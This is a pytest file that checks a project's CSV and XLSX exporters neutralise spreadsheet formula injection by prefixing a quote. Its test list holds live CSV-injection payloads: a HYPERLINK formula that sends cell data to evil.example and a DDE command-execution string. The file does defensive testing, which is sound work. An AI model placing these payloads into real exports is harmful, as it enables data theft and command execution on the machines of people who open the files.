"""Files Kaejon writes never hand a spreadsheet program a live formula (CSV injection)."""
import csv
import io
from types import SimpleNamespace

import numpy as np
import pytest
from openpyxl import load_workbook

from bot.commands.gaps import gaps_csv
from casework.spreadsheets import csv_writer, neutralise, write_xlsx

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3",
           "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["สมชาย", "46010101", "0812345678", "a=b", "", None, 12, -3, -2.5, 0])
def test_plain_text_and_numbers_are_unchanged(value):
    assert neutralise(value) == value


def test_a_csv_read_back_has_no_cell_starting_a_formula():
    out = io.StringIO()
    csv_writer(out).writerows([HOSTILE, ["ok", -5, 7]])

    rows = list(csv.reader(io.StringIO(out.getvalue())))

    assert rows[0] == ["'" + text for text in HOSTILE]
    assert rows[1] == ["ok", "-5", "7"]  # Kaejon's own numbers stay numbers


def test_an_xlsx_read_back_holds_hostile_text_as_text_and_numbers_as_numbers(tmp_path):
    path = tmp_path / "out.xlsx"

    write_xlsx(path, ["note", "count"], [[text, -4] for text in HOSTILE])

    sheet = load_workbook(path).worksheets[0]
    notes = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML reads a carriage return back as a line feed; what matters is the quote in front
    assert [cell.value.replace("\n", "\r") for cell in notes] == ["'" + text for text in HOSTILE]
    assert {cell.data_type for cell in notes} == {"s"}
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [-4] * len(HOSTILE)


def test_the_gaps_export_neutralises_hostile_cells_and_keeps_its_numbers():
    found = SimpleNamespace(
        count=2, programme=SimpleNamespace(id="=cmd|' /C calc'!A0"), period="-month",
        village_codes=np.array(["@46010101", "46010101"]), household_ids=np.array([1, 2]),
        person_ids=np.array([10, 11]), ages=np.array([70.0, np.nan]), amounts=np.array([-1.0, 600.0]))
    out = io.StringIO()

    written = gaps_csv(SimpleNamespace(gaps=[found]), out)

    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert written == 2
    assert {row["programme"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert [row["village_code"] for row in rows] == ["'@46010101", "46010101"]
    assert {row["period"] for row in rows} == {"'-month"}
    assert [(row["age"], row["amount"]) for row in rows] == [("70", "-1"), ("", "600")]
